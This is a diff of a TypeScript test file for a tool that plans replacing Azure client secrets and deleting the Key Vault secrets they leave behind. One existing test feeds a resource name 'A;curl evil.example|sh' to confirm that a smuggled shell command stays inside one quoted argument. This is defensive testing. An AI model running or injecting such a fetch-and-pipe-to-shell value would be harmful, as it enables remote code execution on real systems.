@@ -1,7 +1,10 @@
 import { expect, test } from "vitest";
+import type { FoundApplication } from "../../shared/applications/query.ts";
+import type { Match } from "../../shared/rotation/match.ts";
 import { type AssessedConsumer, applyLimit, planOf, verdictOf } from "../../shared/secretless/assess.ts";
 import { type ApplicationContext, replacementOf } from "../../shared/secretless/replacement.ts";
 import type { SecretConsumer, SyncTarget } from "../../shared/secretless/report.ts";
+import { createSecretless } from "../../shared/secretless/secretless.ts";
 
 // Decisions of the report on client secrets that the drawn company does not contain.
 
@@ -134,4 +137,63 @@ test("a command stays one command, whatever a resource is called", () => {
   const commands = replacementOf(hostile, application, undefined).steps.slice(-2);
   expect(commands[0]!.command).toContain("--setting-names 'A;curl evil.example|sh'");
   expect(commands[1]!.command).toMatch(/--setting-names B$/);
+});
+
+test("a plan deletes no vault secret that only its tags, or a sign-in with any secret, tie to the application", async () => {
+  const { appId, tenantId } = application;
+  const keyIds = ["44444444-4444-4444-8444-444444444444", "55555555-5555-4555-8555-555555555555"];
+  const match = (name: string, more: Partial<Match>) =>
+    ({
+      secret: { vaultName: "kv", name },
+      confidence: "certain",
+      evidence: [],
+      keyId: keyIds[0],
+      verified: "none",
+      isKnown: false,
+      version: undefined,
+      ...more,
+    }) as unknown as Match;
+  const app = {
+    appId,
+    displayName: "Shop",
+    kind: "application",
+    credentials: keyIds.map((keyId) => ({ keyId, kind: "secret" })),
+    details: { readAt: "2026-11-28T00:00:00.000Z", federated: [] },
+  };
+  const edge = {
+    resource: { id: SITE, kind: "webApp", name: "shop" },
+    evidence: "appsettings/CLIENT_SECRET",
+    strength: "references",
+    name: "client",
+    refresh: { how: "action" },
+  };
+  const secretless = createSecretless({
+    applications: { get: async () => ({ app, tenantId, usageOf: () => usage }) as unknown as FoundApplication },
+    matches: {
+      listMatches: async () => ({
+        matches: [
+          match("proven", { verified: "signIn", evidence: ["signIn"] }),
+          match("tagged", { evidence: ["tag"] }),
+          match("any-secret", { verified: "signIn", evidence: ["signIn"], keyId: undefined }),
+        ],
+        coverage: [],
+      }),
+    },
+    dependencies: {
+      edgesOf: async () => ({ edges: [{ edge }], more: false }) as never,
+      coverage: async () => ({ items: [], total: 0 }) as never,
+    },
+    sync: { get: async () => Promise.reject(new Error("No sync record is read.")) },
+    cloud: { issuers: { v2: application.entraIssuer }, tokenExchangeAudience: application.audience } as never,
+  });
+  const { secrets } = await secretless.report(appId);
+  const deletions = secrets.map(({ plan }) =>
+    plan.flatMap(({ command = "" }) => (command.startsWith("az keyvault secret delete") ? command : [])),
+  );
+  expect(deletions).toEqual([["az keyvault secret delete --vault-name kv --name proven"], []]);
+  expect(secrets[0]!.places.map(({ assetId }) => assetId)).toEqual([
+    "kv.secret.proven",
+    "kv.secret.tagged",
+    "kv.secret.any-secret",
+  ]);
 });
